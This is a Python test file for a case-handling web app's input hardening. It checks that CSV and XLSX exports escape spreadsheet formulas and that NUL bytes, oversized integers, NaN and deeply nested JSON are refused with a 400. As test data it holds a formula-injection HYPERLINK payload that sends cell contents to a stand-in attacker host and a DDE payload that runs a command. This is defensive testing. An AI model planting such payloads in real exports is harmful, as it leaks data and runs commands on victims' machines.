"""Hostile input: spreadsheet exports that cannot run formulas (issue 13, item 10), and NUL bytes or huge
integers anywhere in a request answered with a 400 and a message, never a 500 (issue 13, item 11).
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from conftest import ALL_GROUPS, make_actor
from flask import url_for
from openpyxl import load_workbook
from sqlalchemy import update
from test_web import csrf_token, login
from werkzeug.routing import IntegerConverter

from engine.desk import casework
from engine.org import accounts
from engine.store.tables import items
from engine.watch import performance, reports
from engine.watch.spreadsheet import safe_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
HUGE = str(10**30)

# --- issue 13, item 10: exports -------------------------------------------------------------------


@pytest.mark.parametrize("text", [HYPERLINK, DDE, "+1+1", "-1+1", "-5", "\tx", "\rx", "\0x"])
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    """issue 13, item 10: = + - @ tab CR (OWASP) and NUL (ASVS) at the start of text."""
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -2.5, 0, 3, None, date(2026, 2, 1), "正常", "a=b", "梁子镇-1", ""])
def test_numbers_dates_and_plain_text_pass_unchanged(value):
    """issue 13, item 10: a negative count is a number to sum, not a formula; only text is escaped."""
    assert safe_cell(value) == value and type(safe_cell(value)) is type(value)


@pytest.fixture
def hostile_item(db, joint):
    """The demo item renamed by a careless (or hostile) analyst into formulas, with one case."""
    with db.transaction() as conn:
        conn.execute(update(items).values(name=HYPERLINK, department=DDE))
    applicant = make_actor(db, "zhangsan", [], ["applicant"])
    return casework.start_case(db, "DEMO-001", {}, applicant).case_no


def test_the_auditors_csv_escapes_formulas(client, db, hostile_item):
    """issue 13, item 10: /audit/export.csv."""
    make_actor(db, "shenji", [], ["auditor"])
    login(client, "shenji")
    rows = list(csv.reader(io.StringIO(client.get("/audit/export.csv").get_data(as_text=True).lstrip("\ufeff"))))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert (record["事项名称"], record["部门"]) == ("'" + HYPERLINK, "'" + DDE)
    assert record["办件编号"] == hostile_item and record["流程版本"] == "1" and record["预警次数"] == "0"


def test_the_daily_report_csv_escapes_formulas(db, hostile_item):
    """issue 13, item 10: engine.watch.reports.to_csv, what the scheduler writes under instance/reports."""
    from engine.time import clock

    rows = list(csv.reader(io.StringIO(reports.to_csv(reports.build(db, reports.DAILY, clock.local_date())))))
    department = next(r for r in rows[2:] if r[0] != reports.TOTAL)
    assert department[0] == "'" + DDE and department[1] == "1"  # received: a number, as it was


def test_the_monthly_report_csv_escapes_window_names():
    """issue 13, item 10: the monthly report's window table (labels come from the org tree)."""
    window = {"label": HYPERLINK, "handled": 2, "on_time_rate": 0.5, "early_rate": None, "average_working_days": -1,
              "yellow_cards": 0, "red_cards": 0, "rating_average": None, "score": -3.5}
    report = reports.Report(reports.MONTHLY, "2026-02", date(2026, 2, 1), date(2026, 2, 28),
                            datetime(2026, 3, 1, tzinfo=UTC), rows=[], windows=[window])
    last = list(csv.reader(io.StringIO(reports.to_csv(report))))[-1]
    assert last[0] == "'" + HYPERLINK and last[1:3] == ["2", "50.0%"] and last[4] == "-1" and last[-1] == "-3.5"


@pytest.fixture
def hostile_performance(monkeypatch):
    window = performance.Metrics(key=DDE, label=HYPERLINK, handled=2, score=-1.5)
    person = performance.Metrics(key="-zhao", label="+86 138", handled=1)
    monkeypatch.setattr(performance, "evaluate", lambda db, date_from, date_to: performance.Performance(
        date_from, date_to, {}, windows=[window], people=[person]))


def test_the_performance_csv_and_xlsx_escape_formulas(client, db, hostile_performance):
    """issue 13, item 10: /watch/performance.csv and .xlsx (openpyxl would store "=…" as a formula)."""
    make_actor(db, "watcher", [], ["supervisor"])
    login(client, "watcher")
    rows = list(csv.reader(io.StringIO(client.get("/watch/performance.csv").get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[2][:3] == ["'" + HYPERLINK, "'" + DDE, "2"] and rows[2][-1] == "-1.5"
    assert rows[6][:2] == ["'+86 138", "'-zhao"]
    sheet = load_workbook(io.BytesIO(client.get("/watch/performance.xlsx").data))["窗口"]
    label, key, handled = sheet["A2"], sheet["B2"], sheet["C2"]
    assert (label.value, label.data_type, key.value) == ("'" + HYPERLINK, "s", "'" + DDE)
    assert handled.value == 2 and sheet.cell(2, sheet.max_column).value == -1.5


# --- issue 13, item 11: NUL bytes and huge integers -----------------------------------------------


@pytest.fixture
def root(client, db, joint):
    """An administrator (every role) logged in, with an API token: every route runs its view."""
    make_actor(db, "root", ALL_GROUPS, ["admin"])
    login(client, "root")
    return {"Authorization": f"Bearer {accounts.issue_token(db, 'root', 'test')}"}


def _get_routes(app) -> list:
    return sorted((r for r in app.url_map.iter_rules() if "GET" in r.methods), key=lambda r: r.rule)


def _url(app, rule, text: str, number: int) -> str:
    """The rule's URL with `number` in its integer parts and `text` in the others."""
    values = {name: number if isinstance(rule._converters[name], IntegerConverter) else text
              for name in rule.arguments}
    with app.test_request_context():
        return url_for(rule.endpoint, **values)


def assert_refused(response, words: str) -> None:
    assert response.status_code == 400, (response.request.url, response.status_code)
    if response.request.path.startswith("/api/"):
        body = response.get_json()
        assert body["error"] == "invalid_input" and words in body["message"], body
    else:
        assert words in response.get_data(as_text=True), response.request.url


def test_a_nul_or_a_huge_integer_in_any_query_string_is_a_400(app, client, root):
    """issue 13, item 11: every GET route, before its view runs (PostgreSQL refuses NUL in text)."""
    for rule in _get_routes(app):
        url = _url(app, rule, "x", 1)
        assert_refused(client.get(url, query_string={"q": "a\0b"}, headers=root), "空字符")
        assert_refused(client.get(url, query_string={"page": HUGE}, headers=root), "超出范围")
        assert_refused(client.get(url, query_string={"case\0": "1"}, headers=root), "空字符")


def test_a_nul_or_a_huge_integer_in_any_path_is_a_400_or_at_worst_a_404(app, client, root):
    """issue 13, item 11: a NUL in a path part, 10**30 in an integer part, 10**30 as a case number or code."""
    for rule in _get_routes(app):
        numbers = {name for name in rule.arguments if isinstance(rule._converters[name], IntegerConverter)}
        if rule.arguments - numbers:
            assert_refused(client.get(_url(app, rule, "a\0b", 1), headers=root), "空字符")
        response = client.get(_url(app, rule, HUGE, 10**30), headers=root)
        if numbers:
            assert_refused(response, "超出范围")
        else:
            assert response.status_code < 500, (rule.rule, response.status_code)


@pytest.mark.parametrize("number", [2**31, 2**63, 10**30])
def test_an_id_beyond_the_databases_integers_is_a_400(client, root, number):
    """issue 13, item 11: PostgreSQL's integer ends at 2**31 - 1 (ids, version numbers); a POST route too."""
    token = csrf_token(client, "/watch/warnings")
    response = client.post(f"/watch/warnings/{number}/acknowledge", data={"csrf_token": token})
    assert_refused(response, "超出范围")
    assert_refused(client.get(f"/studio/drafts/{number}"), "超出范围")


@pytest.mark.parametrize("number", [2**31, 2**62])
def test_numbers_routes_parse_are_held_to_the_databases_integers(client, root, number):
    """issue 13, item 11: below 2**63 these passed the query check, then failed PostgreSQL's `integer` (a 500)."""
    assert_refused(client.get(f"/audit?page={number}"), "页码")
    for query in (f"to={number}&from=1", f"from={number}&to=1"):
        assert_refused(client.get(f"/studio/items/DEMO-001/diff?{query}"), "版本")
        assert_refused(client.get(f"/studio/items/DEMO-001/migrate?{query}"), "版本")
    token = csrf_token(client, "/studio/items/DEMO-001/versions")
    opened = client.post("/studio/items/DEMO-001/drafts", data={"version": str(number), "csrf_token": token})
    assert_refused(opened, "版本号")


@pytest.mark.parametrize("query", ["after=2147483648", "after=2441601868898", f"after={HUGE}",
                                   "limit=9223372036854775808"])
def test_the_feed_refuses_a_sequence_number_beyond_the_databases(client, root, query):
    """issue 13, item 11 and the fuzzing: ?after=2441601868898 (the fuzzer's find) reached `audit_events.id` and
    overflowed PostgreSQL's integer, a 500."""
    assert_refused(client.get(f"/api/v1/feed/cases?{query}", headers=root), "超出范围")


def test_a_nul_in_a_form_field_is_a_400(client, db, joint):
    """issue 13, item 11: the login form looked the NUL up in `users` (a 500 on PostgreSQL)."""
    response = client.post("/login", data={"username": "root\0", "password": "x", "csrf_token": csrf_token(client)})
    assert_refused(response, "空字符")


@pytest.mark.parametrize(("data", "words"), [
    ('{"item": "DEMO-001", "data": {"applicant_name": "张\\u0000三"}}', "请求体.data.applicant_name 含有空字符"),
    ('{"item": "DEMO-001", "data": {"a\\u0000": "x"}}', "请求体.data 的字段名 含有空字符"),
    ('{"item": "DEMO-001", "data": {"count": [1, 1' + "0" * 30 + "]}}", "请求体.data.count[1] 的数值超出范围"),
    ('{"item": "DEMO-001", "data": {"count": NaN}}', "NaN"),
    ('{"item": "DEMO-001", "data": {"count": 1e999}}', "NaN"),
    ('{"item": "DEMO-001", "data": ' + "[" * 100_000 + "]" * 100_000 + "}", "嵌套"),
], ids=["nul-value", "nul-key", "huge", "nan", "infinity", "deep"])
def test_a_hostile_json_body_is_a_400(client, root, data, words):
    """issue 13, item 11: a JSON body is checked as a whole, keys included, before the route reads it."""
    response = client.post("/api/v1/cases", data=data, content_type="application/json", headers=root)
    assert_refused(response, words)
    assert client.get("/api/v1/tasks", headers=root).get_json()["tasks"] == []  # no case was started
